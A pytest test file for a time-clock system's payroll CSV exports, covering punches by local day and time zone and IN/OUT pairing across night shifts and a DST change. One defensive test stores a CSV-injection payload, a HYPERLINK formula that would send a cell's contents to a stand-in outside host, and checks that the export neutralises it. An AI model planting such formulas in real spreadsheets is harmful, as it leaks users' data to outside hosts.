"""Payroll exports from the central: punches by date range and time zone, and IN/OUT pairs per person and
day (worked time, unpaired punches, night shifts, a DST change), as CSV parsed back and checked."""

from __future__ import annotations

import csv
import datetime as dt
import io
from pathlib import Path
from typing import Any
from zoneinfo import ZoneInfo

import pytest
from clockterm_host.central import Handle
from clockterm_host.central.cli import main as central_main

BERLIN = ZoneInfo("Europe/Berlin")
ROSTER = "badge,employee_id,name\n04A1B2C3,E1,Ada Lövelace\n04D5E6F7,E2,Grace Hopper\n0A0B0C0D,E3,Alan Turing\n"
BADGE = {"E1": "04A1B2C3", "E2": "04D5E6F7", "E3": "0A0B0C0D"}


def ms(local: str) -> int:
    """Unix ms of a Berlin civil time 'YYYY-MM-DD HH:MM'."""
    return int(dt.datetime.fromisoformat(local).replace(tzinfo=BERLIN).timestamp() * 1000)


# (device, local time, employee or None, kind, quality). 2026-03-29 02:00 is the switch to summer time.
PUNCHES = [
    ("dev-a", "2026-03-28 21:30", "E1", "in", "synced"),
    ("dev-a", "2026-03-29 05:30", "E1", "out", "synced"),  # a night shift over the DST change: 7 h
    ("dev-a", "2026-03-29 08:00", "E2", "out", "synced"),  # an OUT with no IN: missing_in
    ("dev-a", "2026-03-29 08:01", "E2", "in", "synced"),
    ("dev-b", "2026-03-29 12:00", "E2", "out", "synced"),  # IN on one terminal, OUT on another
    ("dev-b", "2026-03-29 12:30", "E2", "in", "unsynced"),
    ("dev-a", "2026-03-29 17:00", "E2", "out", "synced"),
    ("dev-a", "2026-03-29 09:00", None, "unknown", "synced"),  # an unknown badge: punches report only
    ("dev-a", "2026-03-29 22:00", "E1", "in", "synced"),  # never left: missing_out
    ("dev-b", "2026-03-30 00:10", "E3", "in", "synced"),
    ("dev-b", "2026-03-30 09:10", "E3", "out", "synced"),
]


@pytest.fixture
def stored(central: Handle) -> list[dict[str, Any]]:
    central.store.import_roster_csv(ROSTER)
    for dev in ("dev-a", "dev-b"):
        central.store.add_device(dev, "pw")
        rows = [p for p in PUNCHES if p[0] == dev]
        central.store.store_batch(dev, "j1", [
            {"seq": i + 1, "badge": BADGE.get(emp or "", "FFFF0001"), "kind": kind, "utc_ms": ms(t),
             "utc_offset_min": int(dt.datetime.fromtimestamp(ms(t) / 1000, BERLIN).utcoffset().total_seconds() // 60),
             "quality": q, "uncertainty_ms": 3, "employee_id": emp}
            for i, (_d, t, emp, kind, q) in enumerate(rows)])
    return central.store.punches()


def export(central: Handle, tmp_path: Path, *args: str) -> tuple[str, list[list[str]]]:
    out = tmp_path / "out.csv"
    assert central_main(["central", "export", "--state", str(central.state), "-o", str(out), *args]) == 0
    raw = out.read_bytes().decode("utf-8")
    delim = ";" if "--delimiter" in args else ","
    return raw, list(csv.reader(io.StringIO(raw.removeprefix("\ufeff"), newline=""), delimiter=delim))


def test_punches_by_local_day_parsed_back(central: Handle, stored: list[dict[str, Any]], tmp_path: Path) -> None:
    raw, rows = export(central, tmp_path, "--from", "2026-03-29", "--to", "2026-03-29", "--tz", "Europe/Berlin",
                       "--columns", "all", "--bom", "--delimiter", ";")
    assert raw.startswith("\ufeffdate;time;") and "\r\n" in raw  # Excel: BOM, CRLF
    head, body = rows[0], [dict(zip(rows[0], r, strict=True)) for r in rows[1:]]
    assert head[:4] == ["date", "time", "employee_id", "name"]
    want = sorted((p for p in stored if ms("2026-03-29 00:00") <= p["utc_ms"] < ms("2026-03-30 00:00")),
                  key=lambda p: p["utc_ms"])
    assert len(body) == len(want) == 8
    for got, p in zip(body, want, strict=True):
        assert (got["device_id"], int(got["seq"]), int(got["utc_ms"]), got["kind"], got["badge"]) == \
            (p["device_id"], p["seq"], p["utc_ms"], p["kind"], p["badge"])
        local = dt.datetime.fromtimestamp(p["utc_ms"] / 1000, BERLIN)
        assert (got["date"], got["time"]) == (local.date().isoformat(), local.strftime("%H:%M:%S"))
        assert dt.datetime.fromisoformat(got["local_iso"]).timestamp() * 1000 == p["utc_ms"]
        assert got["utc_iso"].endswith("Z") and got["employee_id"] == (p["employee_id"] or "")
    assert {g["employee_id"]: g["name"] for g in body} == {"E1": "Ada Lövelace", "E2": "Grace Hopper", "": ""}
    # The same day in UTC is another set: Berlin is UTC+1 before 02:00 and UTC+2 after.
    _, utc_rows = export(central, tmp_path, "--from", "2026-03-29", "--to", "2026-03-29", "--columns", "utc_ms")
    assert [int(r[0]) for r in utc_rows[1:]] == sorted(
        p["utc_ms"] for p in stored if 1774742400000 <= p["utc_ms"] < 1774828800000)
    # One device only, default columns.
    _, dev_rows = export(central, tmp_path, "--device", "dev-b", "--tz", "Europe/Berlin")
    assert dev_rows[0] == ["date", "time", "employee_id", "name", "kind", "device_id", "badge", "quality"]
    assert {r[5] for r in dev_rows[1:]} == {"dev-b"} and len(dev_rows) == 1 + 4


def pairs(central: Handle, tmp_path: Path, day: str) -> list[dict[str, str]]:
    _, rows = export(central, tmp_path, "--report", "pairs", "--from", day, "--to", day, "--tz", "Europe/Berlin")
    assert rows[0] == ["employee_id", "name", "date", "in_time", "out_date", "out_time", "in_device", "out_device",
                       "worked_min", "worked_h", "flags"]
    return [dict(zip(rows[0], r, strict=True)) for r in rows[1:]]


def short(r: dict[str, str]) -> tuple[str, ...]:
    return (r["employee_id"], r["date"], r["in_time"][:5], r["out_date"], r["out_time"][:5], r["worked_min"],
            r["flags"])


def test_pairs_per_person_and_day(central: Handle, stored: list[dict[str, Any]], tmp_path: Path) -> None:
    # The night shift belongs to the day it began, with its true length over the DST change (7 h).
    assert [short(r) for r in pairs(central, tmp_path, "2026-03-28")] == [
        ("E1", "2026-03-28", "21:30", "2026-03-29", "05:30", "420", "over_midnight")]
    day = pairs(central, tmp_path, "2026-03-29")
    assert [short(r) for r in day] == [
        ("E2", "2026-03-29", "", "2026-03-29", "08:00", "", "missing_in"),
        ("E2", "2026-03-29", "08:01", "2026-03-29", "12:00", "239", ""),
        ("E2", "2026-03-29", "12:30", "2026-03-29", "17:00", "270", "unsynced"),
        ("E1", "2026-03-29", "22:00", "", "", "", "missing_out"),
    ]
    assert (day[1]["in_device"], day[1]["out_device"], day[1]["worked_h"], day[1]["name"]) == \
        ("dev-a", "dev-b", "3.98", "Grace Hopper")
    # A shift that begins after midnight is that day's; the export's zone decides what a day is.
    assert [short(r) for r in pairs(central, tmp_path, "2026-03-30")] == [
        ("E3", "2026-03-30", "00:10", "2026-03-30", "09:10", "540", "")]
    _, utc = export(central, tmp_path, "--report", "pairs", "--from", "2026-03-29", "--to", "2026-03-29")
    assert [r[0] for r in utc[1:]].count("E3") == 1  # 00:10 Berlin is 22:10 UTC the day before


def test_pairs_worked_time_matches_the_punches(central: Handle, stored: list[dict[str, Any]],
                                               tmp_path: Path) -> None:
    # Over the whole range every IN and OUT of a known person is in exactly one row, and worked time adds
    # up to the sum of OUT - IN of the pairs.
    _, rows = export(central, tmp_path, "--report", "pairs", "--from", "2026-03-28", "--to", "2026-03-30",
                     "--tz", "Europe/Berlin")
    body = [dict(zip(rows[0], r, strict=True)) for r in rows[1:]]
    ins = sum(1 for r in body if r["in_time"])
    outs = sum(1 for r in body if r["out_time"])
    known = [p for p in stored if p["employee_id"]]
    assert (ins, outs) == (sum(p["kind"] == "in" for p in known), sum(p["kind"] == "out" for p in known))
    assert sum(int(r["worked_min"]) for r in body if r["worked_min"]) == 420 + 239 + 270 + 540


def test_a_cell_that_would_run_as_a_formula_is_text(central: Handle, tmp_path: Path) -> None:
    # CSV injection: a roster name or employee id a spreadsheet would run, written with a ' before it in
    # both reports; numbers (a negative utc_offset_min) are written as they are
    evil = '=HYPERLINK("http://x.example/?"&B2,"Alice")'
    central.store.import_roster_csv(f'badge,employee_id,name\n04A1B2C3,-E9,"{evil.replace(chr(34), 2 * chr(34))}"\n'
                                    "0A0001,E8,@Bob\n")
    central.store.add_device("dev-a", "pw")
    t = ms("2026-03-29 08:00")
    central.store.store_batch("dev-a", "j1", [
        {"seq": 1, "badge": "04A1B2C3", "kind": "in", "utc_ms": t, "utc_offset_min": -300, "quality": "synced",
         "uncertainty_ms": 3, "employee_id": "-E9"},
        {"seq": 2, "badge": "0A0001", "kind": "in", "utc_ms": t + 1000, "utc_offset_min": -300, "quality": "synced",
         "uncertainty_ms": 3, "employee_id": "E8"}])
    _, rows = export(central, tmp_path, "--from", "2026-03-29", "--to", "2026-03-29", "--tz", "Europe/Berlin",
                     "--columns", "employee_id,name,badge,utc_offset_min")
    assert rows[1:] == [["'-E9", "'" + evil, "04A1B2C3", "-300"], ["E8", "'@Bob", "0A0001", "-300"]]
    _, rows = export(central, tmp_path, "--report", "pairs", "--from", "2026-03-29", "--to", "2026-03-29",
                     "--tz", "Europe/Berlin")
    assert sorted(r[:2] for r in rows[1:]) == [["'-E9", "'" + evil], ["E8", "'@Bob"]]
